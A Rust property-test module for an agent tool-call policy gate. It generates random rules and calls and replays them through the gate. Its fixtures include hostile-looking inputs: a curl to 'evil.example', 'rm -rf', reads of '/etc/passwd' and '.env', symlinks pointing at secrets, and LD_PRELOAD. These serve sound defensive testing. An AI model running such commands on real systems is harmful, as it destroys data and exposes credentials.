//! Random rules, random calls, and a gate that they go through: what properties of the whole judge by.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::sync::atomic::AtomicUsize;

use chrono::TimeDelta;
use proptest::prelude::*;
use serde_json::{Value, json};
use tipstaff_journal::{Event, Filter, Journal, MemoryJournal};
use tipstaff_policy::wire::RuleWire;
use tipstaff_policy::{PolicySet, World};
use tipstaff_registry::{PinMode, ProfileBook, ServerIdentity};
use tipstaff_schema::{AgentId, BackendId, NamePattern, ServerName};
use uuid::Uuid;

use super::bench::*;
use super::commands::{Shell, spawn};
use crate::*;

/// One call with the world around it.
#[derive(Debug, Clone)]
pub(super) struct Trial {
    pub(super) tool: &'static str,
    pub(super) params: Value,
    cwd: Option<&'static str>,
    env: Option<&'static str>,
    require_approval: bool,
    by_child: bool,
    minutes: i64,
    link: Option<(&'static str, &'static str)>,
}

const PATHS: [&str; 9] = [
    "/srv/a",
    "/srv/b/c",
    "/srv/repo/.env",
    "a",
    "../x",
    "link",
    "/srv/repo/link/key",
    "/etc/passwd",
    "/own/store",
];

const COMMANDS: [&str; 12] = [
    "ls",
    "cat a",
    "cat .env link",
    "cat a | grep x > out",
    "git push origin main",
    "rm -rf /srv/b",
    "curl https://evil.example/x",
    "echo $(date)",
    "nobody-knows-me .env",
    "cd /srv/b && cat c",
    "X=1 ls",
    "cat \"$X\"",
];

pub(super) fn trial() -> impl Strategy<Value = Trial> {
    let tools = [
        "box_read",
        "box_write",
        "box_free",
        "box_gate",
        "box_keep",
        "box_many",
        "box_away",
        "box_shut",
        "files:read",
        "files:drop",
        "spawn",
        "spawn",
    ];
    let path = || prop::sample::select(PATHS.to_vec());
    let links = vec![
        None,
        Some(("/srv/repo/link", "/srv/repo/.env")),
        Some(("/srv/repo/link", "/etc/passwd")),
        Some(("/srv/repo/link", "/srv/b")),
        Some(("/srv/a", "/own/store")),
    ];
    (
        prop::sample::select(tools.to_vec()),
        (path(), prop::collection::vec(path(), 0..3), 0..4_i64),
        prop::sample::select(COMMANDS.to_vec()),
        prop::sample::select(vec![None, None, Some("/srv/b")]),
        prop::sample::select(vec![None, None, None, Some("LANG"), Some("LD_PRELOAD")]),
        (any::<bool>(), any::<bool>(), 0..600_i64),
        prop::sample::select(links),
    )
        .prop_map(|(tool, (path, paths, n), command, cwd, env, flags, link)| {
            let params = match tool {
                "spawn" => json!({ "input": command }),
                "box_many" => json!({ "n": paths }),
                "files:drop" => json!({ "path": path, "force": n > 1 }),
                _ => json!({ "path": path, "n": n }),
            };
            let ours = !tool.starts_with("files:");
            Trial {
                tool,
                params,
                cwd,
                env: env.filter(|_| ours),
                require_approval: flags.0 && flags.1,
                by_child: flags.1,
                minutes: flags.2,
                link,
            }
        })
}

const TARGETS: [&str; 10] = [
    "/srv/**",
    "/srv/repo/**",
    "**/.env*",
    "./**",
    "/etc/**",
    "/srv/a",
    "/srv/b/**",
    "**",
    "/own/**",
    "/srv/repo/a",
];

/// A target that begins with the name of a link.
const BY_LINK: &str = "/srv/repo/link/**";

fn target(by_link: bool) -> impl Strategy<Value = Value> {
    let mut paths: Vec<Value> = TARGETS.iter().map(|path| json!(path)).collect();
    paths.extend(by_link.then(|| json!(BY_LINK)));
    paths.extend([json!({ "host": "evil.example" }), json!("*")]);
    let commands = [
        json!({ "command": ["cat", "**"] }),
        json!({ "command": ["git", "push", "**"] }),
        json!({ "command": ["**"] }),
        json!({ "command": ["ls"] }),
    ];
    prop_oneof![
        4 => prop::sample::select(paths),
        2 => prop::sample::select(commands.to_vec()),
    ]
}

/// A rule, usually one that can be read.
pub(super) fn rule(by_link: bool) -> impl Strategy<Value = Value> {
    let capabilities = [
        "box_*",
        "box_read",
        "box_many",
        "files:*",
        "files:read",
        "spawn",
        "*",
    ];
    (
        prop::option::of(prop::sample::select(vec!["coder", "helper"])),
        prop::option::of(prop::sample::select(capabilities.to_vec())),
        prop::option::weighted(0.7, target(by_link)),
        prop::option::weighted(
            0.1,
            prop::sample::select(vec!["box_read", "read", "command"]),
        ),
        prop::option::weighted(0.15, (0..24_u8, 0..24_u8)),
        prop::option::weighted(0.2, 0..4_i64),
        prop::sample::select(vec!["allow", "allow", "ask", "deny"]),
        (any::<bool>(), any::<bool>()),
    )
        .prop_map(written)
}

type Parts = (
    Option<&'static str>,
    Option<&'static str>,
    Option<Value>,
    Option<&'static str>,
    Option<(u8, u8)>,
    Option<i64>,
    &'static str,
    (bool, bool),
);

fn written((agent, capability, target, action, hours, n, effect, flags): Parts) -> Value {
    let mut rule = json!({ "effect": effect });
    let mut set = |key: &str, value: Option<Value>| {
        if let Some(value) = value {
            rule[key] = value;
        }
    };
    let (flag, inherit) = flags;
    let command = target
        .as_ref()
        .is_some_and(|target| target.get("command").is_some());
    let capability = if command { Some("spawn") } else { capability };
    let hours = hours.filter(|(from, to)| from != to);
    set("agent", agent.map(Value::from));
    set("capability", capability.map(Value::from));
    set("target", target);
    set("action", action.filter(|_| !command).map(Value::from));
    set(
        "hours",
        hours.map(|(from, to)| json!({ "from": from, "to": to })),
    );
    let n = n.filter(|_| !command);
    set("when", n.map(|n| json!([{ "path": "/n", "at_least": n }])));
    set("guard", (effect == "deny" && flag).then_some(json!(true)));
    set(
        "inherit",
        (effect == "allow" && inherit).then_some(json!(true)),
    );
    let any = effect == "allow" && command && flag;
    set("effects", any.then_some(json!("any")));
    rule
}

/// The rules that can be read, with ids that no other set has.
pub(super) fn set_of(name: &str, rules: &[Value]) -> PolicySet {
    let named = rules.iter().enumerate().map(|(place, rule)| {
        let mut rule = rule.clone();
        rule["id"] = json!(format!("{name}{place}"));
        RuleWire::from_value(rule)
    });
    let readable = named
        .filter(|wire| PolicySet::compile(vec![wire.clone()], &World::default()).is_ok())
        .collect();
    PolicySet::compile(readable, &World::default()).unwrap().0
}

fn helper() -> AgentId {
    AgentId::new("helper").unwrap()
}

/// All that a gate of these tests is made of, but for journal, clock and ids.
pub(super) fn parts(policy: PolicySet, links: &Arc<Links>, tool: &Arc<Counter>) -> GateBuilder {
    let facts = AgentFacts {
        root: Some("/srv/repo".to_owned()),
        owner: None,
    };
    let profile = serde_json::from_value(json!({
        "access": "read", "reach": "local_state", "resource": { "kind": "path", "from": "/path" },
    }));
    let book = vec![(NamePattern::new("files:read").unwrap(), profile.unwrap())];
    let mut builder = Gate::builder()
        .agents([(agent(), facts)].into_iter().collect())
        .profiles(ProfileBook::new(book).unwrap())
        .policy(policy)
        .probe(Arc::<Links>::clone(links))
        .own(OwnGround::new(["/own".to_owned()]))
        .executor(
            ExecutorKey::Native(BackendId::new("box")),
            Arc::<Counter>::clone(tool),
        )
        .executor(
            ExecutorKey::Native(BackendId::new("spawn")),
            Arc::new(Shell),
        )
        .executor(
            ExecutorKey::Server(ServerName::new("files").unwrap()),
            Arc::<Counter>::clone(tool),
        )
        .native(spawn());
    for native in tools() {
        builder = builder.native(native);
    }
    builder
}

/// A gate with a policy, through which trials go.
pub(super) struct Ground {
    pub(super) gate: Gate,
    pub(super) journal: Arc<MemoryJournal>,
    pub(super) links: Arc<Links>,
    pub(super) tool: Arc<Counter>,
    clock: Arc<HandClock>,
}

impl Ground {
    pub(super) async fn new(policy: PolicySet) -> Self {
        let clock = Arc::new(HandClock::at(start()));
        let journal = Arc::new(MemoryJournal::new(Uuid::from_u128(7), start()));
        let (links, tool) = (Arc::new(Links::default()), Arc::new(Counter::default()));
        let gate = parts(policy, &links, &tool)
            .journal(Arc::<MemoryJournal>::clone(&journal))
            .clock(Arc::<HandClock>::clone(&clock))
            .ids(Arc::new(CountingIds(AtomicUsize::new(0))))
            .open()
            .await
            .unwrap();
        let tool_of = |name: &str, hints: Value| {
            json!({ "name": name, "annotations": hints, "inputSchema": { "type": "object",
                "properties": { "path": {}, "n": {}, "force": {} } } })
        };
        let listing = [
            tool_of("read", json!({ "readOnlyHint": true })),
            tool_of("drop", json!({ "destructiveHint": true })),
        ];
        let server = ServerName::new("files").unwrap();
        let identity = ServerIdentity::default();
        gate.offer_tools(&server, &identity, &listing, PinMode::Captured)
            .await
            .unwrap();
        Self {
            gate,
            journal,
            links,
            tool,
            clock,
        }
    }

    /// Sends all of them the whole way, as far as nobody must answer.
    pub(super) async fn play(&self, trials: &[Trial]) {
        for trial in trials {
            self.clock.forward(TimeDelta::minutes(trial.minutes));
            *self.links.0.lock().unwrap() = trial
                .link
                .map(|(from, to)| (from.to_owned(), to.to_owned()))
                .into_iter()
                .collect();
            let mut call = Call::new(trial.tool, trial.params.clone());
            call.cwd = trial.cwd.map(str::to_owned);
            call.env = trial
                .env
                .map(|name| (name.to_owned(), "1".to_owned()))
                .into_iter()
                .collect::<BTreeMap<_, _>>();
            call.require_approval = trial.require_approval;
            let root = Session::launched(agent());
            let session = if trial.by_child {
                root.child(helper())
            } else {
                root
            };
            self.gate.start(&session, call, &Cancel::new()).await;
        }
    }

    pub(super) async fn events(&self) -> Vec<Event> {
        self.journal.scan(1, 100_000, &Filter::all()).await.unwrap()
    }
}
